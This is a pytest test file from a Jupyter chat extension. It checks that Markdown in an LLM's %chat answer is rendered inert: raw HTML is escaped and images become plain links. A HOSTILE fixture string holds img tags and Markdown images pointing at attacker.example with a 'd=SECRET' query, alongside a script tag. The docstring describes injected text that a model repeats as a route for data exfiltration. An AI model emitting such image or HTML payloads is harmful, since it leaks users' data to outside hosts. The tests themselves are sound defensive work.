"""Red team: a ``%chat`` answer's ``text/markdown`` is inert in any front end.

VS Code, Colab, nbviewer (and JupyterLab without this extension) render that Markdown
with their own renderers, which pass raw HTML and load any image: a hostile answer (or
injected text the model repeats) could make them request an attacker's URL carrying
data. Our own renderer shows raw HTML as text and images as links; the plain Markdown
now does the same, code left as it is.
"""

from __future__ import annotations

import pytest

from jupyter_chatkit.kernel.inert_markdown import inert_markdown

from .fixtures.fake_llm import FakeLLM, Reply, ToolCall
from .test_kernel_comm import Kernel, kernel, kernel_on_fake_llm, markdown_of

__all__ = ["kernel", "kernel_on_fake_llm"]

HOSTILE = (
    "Look <img src=https://attacker.example/p.png?d=SECRET> "
    "![chart](https://attacker.example/c.png?d=SECRET) <script>alert(1)</script>\n\n"
    "![ref][r]\n\n[r]: https://attacker.example/r.png\n\n"
    "Compare `a<b` inline."
)
CODE = 'html = "<b>bold</b>"\nprint(html if 1 < 2 else "![x](y)")'


def test_a_chat_answer_s_markdown_has_no_raw_html_or_image(
    kernel: Kernel, kernel_on_fake_llm: FakeLLM
) -> None:
    kernel_on_fake_llm.script(
        Reply(tool_calls=[ToolCall("propose_code", {"code": CODE})]), Reply(HOSTILE)
    )
    (shown,) = markdown_of(kernel.execute("%chat show me"))
    prose = shown.split(CODE)[-1]
    assert "<img" not in prose and "<script" not in prose
    assert "![" not in prose.replace("\\![", "")
    assert "&lt;img" in prose and "\\![chart](https://attacker.example/c.png" in prose
    # Code, in the card's fence and in an inline span, is untouched.
    assert CODE in shown and "`a<b`" in shown


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("a <b>x</b>", "a &lt;b>x&lt;/b>"),
        ("![i](u)", "\\![i](u)"),
        ("``x ` <y`` <z", "``x ` <y`` &lt;z"),
        ("~~~\n<a>\n~~~\n<a>", "~~~\n<a>\n~~~\n&lt;a>"),
        ("````\n```\n<a>\n````\n<a>", "````\n```\n<a>\n````\n&lt;a>"),
        ("unclosed `code <a>", "unclosed `code &lt;a>"),
        ("plain text", "plain text"),
    ],
)
def test_inert_markdown(text: str, inert: str) -> None:
    assert inert_markdown(text) == inert
